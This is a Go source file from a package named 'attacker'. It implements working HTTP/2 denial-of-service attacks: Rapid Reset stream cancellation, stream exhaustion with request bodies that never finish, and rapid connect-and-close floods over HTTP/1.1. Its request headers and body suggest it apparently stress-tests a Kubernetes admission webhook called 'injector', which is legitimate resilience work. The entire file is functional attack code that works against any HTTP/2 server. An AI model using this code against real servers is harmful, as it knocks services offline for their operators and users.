package attacker

import (
	"bytes"
	"context"
	"net"
	"sync"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	http2Protocol = "h2"
	http1Protocol = "http/1.1"
)

// preface begins a connection of HTTP/2, with empty SETTINGS.
func preface() []byte {
	var text bytes.Buffer
	text.WriteString(http2.ClientPreface)
	_ = http2.NewFramer(&text, nil).WriteSettings() // a buffer takes all
	return text.Bytes()
}

// Streams holds connections of HTTP/2 that have so many streams each, with requests whose bodies do not come. Where the server
// speaks HTTP/1.1 only, as many connections hold one each.
func Streams(connections, streams int) Attack {
	return overHTTP2(connections, UnfinishedBodies(connections*streams, 100, 0), func(_ context.Context, p *Party, s *session) error {
		for range streams {
			if err := s.open(false); err != nil {
				return err
			}
			p.count(func(c *Counts) { c.Requests++ })
		}
		s.wait()
		return nil
	})
}

// StreamsOf is Streams of whole requests, again and again.
func StreamsOf(connections, streams int, body func(n int) []byte) Attack {
	return overHTTP2(connections, Requests(connections*streams, body), func(ctx context.Context, p *Party, s *session) error {
		for n := 0; ctx.Err() == nil; n++ {
			if s.openStreams() >= streams {
				if !s.next() {
					return nil
				}
				continue
			}
			if err := p.asks(ctx); err != nil {
				return err
			}
			if err := s.send(body(n)); err != nil {
				return err
			}
		}
		return nil
	})
}

// RapidReset opens streams and resets each at once. Where the server speaks HTTP/1.1 only, connections are opened and reset.
func RapidReset(connections int) Attack {
	return overHTTP2(connections, cutOff(connections), func(ctx context.Context, p *Party, s *session) error {
		for ctx.Err() == nil {
			if err := p.asks(ctx); err != nil {
				return err
			}
			if err := s.open(true); err != nil {
				return err
			}
		}
		return nil
	})
}

// cutOff sends requests, and closes each connection at once.
func cutOff(connections int) Attack {
	body := Review("1", "default", map[string]any{"name": "pod"})
	return func(ctx context.Context, p *Party) {
		each(ctx, connections, func(ctx context.Context) error {
			for ctx.Err() == nil {
				c, _, err := p.connectTLS(ctx)
				if err != nil {
					return err
				}
				if err := p.asks(ctx); err != nil {
					return err
				}
				_, err = c.Write(append([]byte(headers(len(body))), body...))
				_ = c.Close()
				if err != nil {
					return err
				}
			}
			return nil
		})
	}
}

// overHTTP2 attacks over HTTP/2, and by another attack once the server has not agreed to it.
func overHTTP2(connections int, otherwise Attack, attack func(context.Context, *Party, *session) error) Attack {
	return func(ctx context.Context, p *Party) {
		c, protocol, err := p.connectTLS(ctx, http2Protocol, http1Protocol)
		if err == nil {
			_ = c.Close()
		}
		if protocol != http2Protocol {
			otherwise(ctx, p)
			return
		}
		each(ctx, connections, func(ctx context.Context) error {
			c, _, err := p.connectTLS(ctx, http2Protocol)
			if err != nil {
				return err
			}
			s, err := begin(c, p)
			if err != nil {
				return err
			}
			defer s.close()
			return attack(ctx, p, s)
		})
	}
}

// session is a connection of HTTP/2.
type session struct {
	c      net.Conn
	party  *Party
	framer *http2.Framer
	block  bytes.Buffer
	coder  *hpack.Encoder
	stream uint32

	mu      sync.Mutex // of writing
	ended   chan struct{}
	known   sync.Mutex
	pending map[uint32]bool
	fewer   chan struct{}
}

func begin(c net.Conn, p *Party) (*session, error) {
	if _, err := c.Write(preface()); err != nil {
		return nil, err
	}
	s := &session{c: c, party: p, framer: http2.NewFramer(c, c), ended: make(chan struct{}), pending: map[uint32]bool{}, fewer: make(chan struct{}, 1)}
	s.coder = hpack.NewEncoder(&s.block)
	go s.read()
	return s, nil
}

// read takes what the server sends, as little as keeps the connection going.
func (s *session) read() {
	defer close(s.ended)
	for {
		frame, err := s.framer.ReadFrame()
		if err != nil {
			return
		}
		switch f := frame.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				_ = s.write(s.framer.WriteSettingsAck) // where writing fails, so does reading
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				_ = s.write(func() error { return s.framer.WritePing(true, f.Data) })
			}
		case *http2.DataFrame:
			_ = s.write(func() error { return s.framer.WriteWindowUpdate(0, max(1, uint32(len(f.Data())))) })
			s.over(f.StreamID, f.StreamEnded())
		case *http2.HeadersFrame:
			s.over(f.StreamID, f.StreamEnded())
		case *http2.RSTStreamFrame:
			s.over(f.StreamID, true)
		}
	}
}

// over notes that a stream has ended.
func (s *session) over(stream uint32, ended bool) {
	if !ended {
		return
	}
	s.known.Lock()
	delete(s.pending, stream)
	s.known.Unlock()
	s.party.count(func(c *Counts) { c.Answered++ })
	select {
	case s.fewer <- struct{}{}:
	default:
	}
}

func (s *session) openStreams() int {
	s.known.Lock()
	defer s.known.Unlock()
	return len(s.pending)
}

// next waits until a stream has ended; false where the connection has.
func (s *session) next() bool {
	select {
	case <-s.fewer:
		return true
	case <-s.ended:
		return false
	}
}

// wait waits until the server, or the end of the attack, has closed the connection.
func (s *session) wait() { <-s.ended }

func (s *session) close() { _ = s.c.Close(); <-s.ended }

func (s *session) write(frame func() error) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	return frame()
}

// open begins a request on a stream of its own, and resets it at once if it is told to.
func (s *session) open(reset bool) error {
	return s.write(func() error {
		stream, err := s.headers()
		if err != nil || !reset {
			return err
		}
		return s.framer.WriteRSTStream(stream, http2.ErrCodeCancel)
	})
}

// send sends a whole request.
func (s *session) send(body []byte) error {
	return s.write(func() error {
		stream, err := s.headers()
		if err != nil {
			return err
		}
		s.known.Lock()
		s.pending[stream] = true
		s.known.Unlock()
		return s.framer.WriteData(stream, true, body)
	})
}

func (s *session) headers() (stream uint32, err error) {
	s.block.Reset()
	for _, field := range [][2]string{
		{":method", "POST"}, {":scheme", "https"}, {":authority", "injector"}, {":path", path}, {"content-type", "application/json"},
	} {
		if err := s.coder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}); err != nil {
			return 0, err
		}
	}
	if s.stream == 0 {
		s.stream = 1
	} else {
		s.stream += 2
	}
	return s.stream, s.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: s.stream, BlockFragment: s.block.Bytes(), EndHeaders: true})
}
